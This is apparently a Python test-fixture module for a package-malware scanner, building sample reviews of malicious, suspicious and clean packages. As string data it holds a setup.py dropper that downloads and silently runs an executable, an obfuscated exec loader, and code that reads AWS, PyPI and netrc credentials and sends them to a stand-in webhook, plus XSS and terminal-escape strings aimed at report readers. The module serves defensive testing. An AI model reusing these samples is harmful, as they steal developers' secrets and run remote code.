"""Reviews as the judge would make them: realistic ones, and hostile ones."""

from __future__ import annotations

import hashlib
from typing import Any

from antivenom.model.fact import Excerpt, Layer
from antivenom.model.profile import Coverage, Problem
from antivenom.model.review import (
    ArtifactInfo,
    ContextInfo,
    Digests,
    Finding,
    FindingSpan,
    Review,
    Verdict,
)

HOSTILE = (
    "<script>alert(1)</script>",
    "</style><img src=x onerror=alert(1)>",
    "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[31mclean\x1b[0m",
    "[red]bold[/red] [link=http://evil.example]x[/link]",
    "abc\u202egnp.exe\u2066\u200b\ufeff",
    "\ud83d\udc80 \udcff\ue000\U000e0041",
    "a\rMALICIOUS\nclean\x00\x08\x7f\x9b31m",
    "javascript:alert(1) &quot;&#x27; ' \" ` http://evil.example/?a=1&b=2",
    "z" + "\u0300" * 60,
)
"""Names, lines and metadata that attack the reader of a report."""


def sha(text: str) -> str:
    """Return a plausible digest."""
    return hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()


def artifact(name: str = "demo-pkg", version: str = "1.0.3", **changes: Any) -> ArtifactInfo:
    """Return an sdist of `name`."""
    filename = f"{name.replace('-', '_')}-{version}.tar.gz"
    values: dict[str, Any] = {
        "path": f"dist/{filename}",
        "filename": filename,
        "ecosystem": "pypi",
        "name": name,
        "version": version,
        "purl": f"pkg:pypi/{name}@{version}",
        "sha256": sha(filename),
        "size": 4210,
        "kind": "sdist",
    }
    return ArtifactInfo(**(values | changes))


def span(member: str, line: int, excerpt: str, *, end: int = 0, layer: int = 0) -> FindingSpan:
    """Return a span of one line unless `end` says more."""
    return FindingSpan(member=member, line=line, end_line=end or line, layer=layer, excerpt=excerpt)


def finding(rule: str, reason: str, *spans: FindingSpan, **changes: Any) -> Finding:
    """Return a critical finding of an enabled rule."""
    values: dict[str, Any] = {
        "title": rule.rpartition("/")[2].replace("-", " ").capitalize(),
        "kind": "malware",
        "severity": "critical",
        "confidence": "high",
        "state": "enabled",
        "activation": "build",
        "change": "unknown",
        "chain": (),
        "attack": (),
        "weight": 0.95,
    }
    return Finding(rule=rule, reason=reason, spans=spans, **(values | changes))


def review(verdict: Verdict, score: float, *findings: Finding, **changes: Any) -> Review:
    """Return a review whose reasons are its findings' reasons."""
    values: dict[str, Any] = {
        "artifact": artifact(),
        "kind": "malware" if findings and verdict is not Verdict.CLEAN else None,
        "reasons": tuple(f.reason for f in findings if f.weight >= 0.5),
        "layers": (),
        "coverage": Coverage(complete=9),
        "context": ContextInfo(),
        "digests": Digests(
            engine=sha("engine"),
            rulebook=sha("rulebook"),
            scorer=None,
            knowledge=sha("knowledge"),
            context=sha("context"),
        ),
        "took_ms": 21,
    }
    return Review(verdict=verdict, score=score, findings=findings, **(values | changes))


def excerpts(member: str, text: str, *, first: int = 1, layer: int = 0) -> tuple[Excerpt, ...]:
    """Return the lines of `text` as a profile keeps them."""
    return tuple(
        Excerpt(member=member, layer=layer, line=first + n, text=line)
        for n, line in enumerate(text.splitlines())
    )


_SETUP = """\
import os, tempfile
from urllib.request import urlretrieve
from setuptools import setup
from subprocess import Popen

path = os.path.join(tempfile.gettempdir(), "svchost.exe")
urlretrieve("http://files.example/update/svchost.exe", path)
Popen([path], creationflags=0x08000000)

setup(name="demo-pkg", version="1.0.3", packages=["demo_pkg"])
"""
_INIT = '''\
"""Small helpers for colours in the terminal."""

from ._version import __version__

import base64 as _b, zlib as _z
exec(_z.decompress(_b.b64decode("eJxLK8rPVUjOT0lVyE3NzU8uKkpVSMlPLS7JL0pVSEosKcnM"
    "S1coyUjNBQD0nQ7e")))
'''
_HIDDEN = """\
import os, json
from urllib.request import Request, urlopen

def _c():
    found = {k: v for k, v in os.environ.items()}
    for name in ("~/.aws/credentials", "~/.pypirc", "~/.netrc"):
        try:
            found[name] = open(os.path.expanduser(name)).read()
        except OSError:
            pass
    body = json.dumps(found).encode()
    urlopen(Request("https://webhook.example/c/4411?k=a91", data=body))

_c()
"""


def dropper() -> Review:
    """Return the review of a setup.py that downloads and starts a program."""
    return review(
        Verdict.MALICIOUS,
        0.97,
        finding(
            "execution/downloads-then-starts",
            "setup.py downloads http://files.example/update/svchost.exe and starts it when the"
            " package is installed from source",
            span("demo_pkg-1.0.3/setup.py", 7, _SETUP.splitlines()[6]),
            span("demo_pkg-1.0.3/setup.py", 8, _SETUP.splitlines()[7]),
            chain=("net.fetch", "file.write", "process.spawn"),
            attack=("T1105", "T1204.005"),
        ),
        finding(
            "evasion/hides-its-window",
            "setup.py starts a process without a window",
            span("demo_pkg-1.0.3/setup.py", 8, _SETUP.splitlines()[7]),
            severity="medium",
            confidence="medium",
            chain=("process.spawn",),
            attack=("T1564.003",),
            weight=0.3,
        ),
        excerpts=excerpts("demo_pkg-1.0.3/setup.py", _SETUP),
    )


def thief() -> Review:
    """Return the review of a wheel whose hidden layer sends credentials away on import."""
    member = "colorterm_plus/__init__.py"
    outer, inner = _INIT.splitlines(), _HIDDEN.splitlines()
    return review(
        Verdict.MALICIOUS,
        0.99,
        finding(
            "theft/sends-credentials",
            "colorterm_plus reads credential files and the environment and sends them to"
            " webhook.example when it is imported",
            span(member, 8, inner[7], layer=2),
            span(member, 12, inner[11], layer=2),
            activation="import",
            change="new",
            chain=("secrets.file", "data.pack", "net.send"),
            attack=("T1552.001", "T1567.004"),
            weight=0.97,
        ),
        finding(
            "obfuscation/decodes-then-runs",
            "colorterm_plus/__init__.py decodes a hidden program and runs it when it is imported",
            span(member, 6, outer[5], end=7),
            activation="import",
            severity="high",
            chain=("data.decode->code.run",),
            attack=("T1027", "T1140"),
            weight=0.9,
        ),
        finding(
            "exfiltration/names-a-webhook",
            "An address of a webhook service stands in decoded code",
            span(member, 12, inner[11], layer=2),
            activation="import",
            severity="low",
            confidence="low",
            state="evaluation",
            kind="policy",
            chain=("text.endpoint",),
            weight=0.1,
        ),
        artifact=artifact(
            "colorterm-plus",
            "0.2.1",
            kind="wheel",
            size=18_233,
            filename="colorterm_plus-0.2.1-py3-none-any.whl",
            path="colorterm_plus-0.2.1-py3-none-any.whl",
        ),
        layers=(
            Layer(
                id=1,
                member=member,
                line=6,
                parent=0,
                via=("base64", "zlib"),
                sha256=sha("1"),
                size=901,
                excerpt="exec(bytes.fromhex('696d706f7274206f732c206a736f6e…'))",
            ),
            Layer(
                id=2,
                member=member,
                line=1,
                parent=1,
                via=("hex",),
                sha256=sha("2"),
                size=412,
                excerpt=_HIDDEN,
            ),
        ),
        coverage=Coverage(
            complete=11,
            partial=1,
            problems=(
                Problem(
                    member="colorterm_plus/legacy.py",
                    status="partial",
                    reason="syntax error in line 41; read by tokens",
                ),
            ),
        ),
        context=ContextInfo(baseline="pkg:pypi/colorterm-plus@0.2.0", registry=True),
        excerpts=(*excerpts(member, _INIT), *excerpts(member, _HIDDEN, layer=2)),
    )


def unread() -> Review:
    """Return the review of an archive whose setup.py is encrypted."""
    return review(
        Verdict.INCONCLUSIVE,
        0.2,
        reasons=("sealed-2.0/setup.py was not read: the member is encrypted",),
        artifact=artifact("sealed", "2.0", kind="archive", size=1_204_000),
        coverage=Coverage(
            complete=3,
            failed=1,
            skipped=2,
            problems=(
                Problem(member="data/a.bin", status="skipped", reason="over the limit of 512 MB"),
                Problem(
                    member="sealed-2.0/setup.py",
                    status="failed",
                    reason="the member is encrypted",
                    blocking=True,
                ),
            ),
        ),
    )


def suspect() -> Review:
    """Return a review that a person should look at: a callback without data, no excerpts."""
    return review(
        Verdict.SUSPICIOUS,
        0.62,
        finding(
            "exfiltration/calls-back",
            "setup.py looks up a name under oast.example when the package is built",
            span("setup.py", 12, 'socket.gethostbyname("x7.oast.example")'),
            kind="dependency-confusion",
            severity="high",
            chain=("net.lookup",),
            attack=("T1195.001",),
            weight=0.62,
        ),
        artifact=artifact("acme-internal-auth", "99.9.9"),
        kind="dependency-confusion",
    )


def ordinary() -> Review:
    """Return a clean review."""
    return review(
        Verdict.CLEAN,
        0.02,
        artifact=artifact(
            "attractive", "24.2.0", kind="wheel", size=63_001, filename="attractive-24.2.0.whl"
        ),
        coverage=Coverage(complete=38),
    )


def hostile(text: str) -> Review:
    """Return a review in which every text of the upload is `text`."""
    return review(
        Verdict.SUSPICIOUS,
        0.7,
        finding(
            "obfuscation/decodes-then-runs",
            f"reads {text} when imported",
            span(text, 3, text),
            span(text, 3, text, layer=1),
            title=text,
            chain=("data.decode", "code.run"),
        ),
        reasons=(text,),
        artifact=artifact(
            name=text, version=text, filename=text, path=f"dist/{text}", purl=f"pkg:pypi/{text}"
        ),
        layers=(
            Layer(
                id=1,
                member=text,
                line=3,
                parent=0,
                via=(text,),
                sha256=sha(text),
                size=3,
                excerpt=f"{text}\n\t{text}",
            ),
        ),
        coverage=Coverage(
            failed=1,
            problems=(Problem(member=text, status="failed", reason=text, blocking=True),),
        ),
        context=ContextInfo(baseline=text),
        excerpts=(
            Excerpt(member=text, layer=0, line=3, text=text),
            Excerpt(member=text, layer=1, line=3, text=text),
        ),
    )


def typical() -> list[Review]:
    """Return one review of each verdict, and two malicious ones."""
    return [dropper(), ordinary(), thief(), unread(), suspect()]
